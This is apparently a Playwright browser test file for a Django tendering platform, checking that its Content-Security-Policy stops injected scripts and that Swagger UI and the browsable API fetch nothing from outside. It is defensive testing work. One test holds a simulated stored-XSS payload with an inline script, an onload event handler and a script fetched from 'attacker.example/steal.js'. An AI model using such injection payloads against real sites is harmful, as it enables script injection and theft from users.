"""The Content-Security-Policy in Chromium: markup that slipped past escaping cannot run, and
Swagger UI works from the platform's own files with nothing fetched from elsewhere.

(Every other journey fails on any policy violation too: see conftest.py.)"""

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import report_csp_violations
from tests.factories import published_tender

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

# What a stored-XSS payload would add to a page if escaping ever failed: an inline script, an
# event handler and a script from another origin.
INJECTED = """
(() => {
  const script = document.createElement("script");
  script.textContent = "window.pwned = 'inline script';";
  document.body.append(script);
  const image = '<img src="/static/images/civicmarkets.svg?x" onload="window.pwned = 1">';
  document.body.insertAdjacentHTML("beforeend", image);
  const remote = document.createElement("script");
  remote.src = "https://attacker.example/steal.js";
  document.body.append(remote);
})()
"""


def test_markup_injected_into_a_page_cannot_run_scripts(journey):
    tender = published_tender(lots=1, title="Street lighting maintenance")
    page = journey.page
    page.route("https://attacker.example/**", lambda route: route.abort())
    page.goto(f"/tenders/{tender.pk}/")
    expect(page.get_by_role("heading", level=1)).to_have_text("Street lighting maintenance")
    journey.check()

    page.evaluate(INJECTED)
    page.wait_for_function("document.images[document.images.length - 1].complete")
    page.wait_for_timeout(200)  # the handler would have run by now
    assert page.evaluate("window.pwned") is None
    blocked = {(v["directive"], v["blocked"]) for v in journey.csp_violations}
    assert ("script-src-elem", "inline") in blocked
    assert ("script-src-attr", "inline") in blocked
    assert ("script-src-elem", "https://attacker.example/steal.js") in blocked
    # Those were this test's own attack; the page itself caused none.
    journey.csp_violations.clear()


def test_swagger_ui_works_offline_from_the_platforms_own_files(journey, live_server):
    elsewhere = []

    def only_this_server(route):
        if route.request.url.startswith(live_server.url):
            route.continue_()
        else:
            elsewhere.append(route.request.url)
            route.abort()

    page = journey.page
    page.route("**/*", only_this_server)
    page.goto("/api/docs/")
    expect(page.get_by_role("heading", name="CivicMarkets API")).to_be_visible()
    # The operations are listed, grouped by tag, from /api/schema/.
    expect(page.locator(".opblock").first).to_be_visible()
    assert page.locator(".opblock").count() > 20
    expect(page.get_by_text("/api/v1/tenders/", exact=True).first).to_be_visible()
    journey.check()

    # Trying an operation calls the API from the page (connect-src 'self'). Swagger UI's
    # try-it-out form has accessibility faults of its own (unlabelled selects), so axe checks
    # the listing above, not this form.
    published_tender(lots=1, title="School meals")
    page.locator(".opblock-summary-control", has_text="/api/v1/tenders/").first.click()
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    status = page.locator(".live-responses-table td.response-col_status:not(.col_header)")
    expect(status).to_have_text("200")
    expect(page.locator(".live-responses-table")).to_contain_text("School meals")
    journey.assert_no_csp_violations()
    assert elsewhere == []


def test_the_browsable_api_satisfies_the_policy(browser, live_server):
    # DRF's pages are its own (their accessibility is DRF's); the policy is the platform's.
    published_tender(lots=1, title="School meals")
    context = browser.new_context(base_url=live_server.url, locale="en-GB")
    violations = []
    report_csp_violations(context, lambda _source, violation: violations.append(violation))
    page = context.new_page()
    page.goto("/api/v1/tenders/")
    expect(page.get_by_text("School meals").first).to_be_visible()
    expect(page.get_by_role("button", name="Filters")).to_be_visible()
    page.wait_for_load_state("load")
    context.close()
    assert violations == []
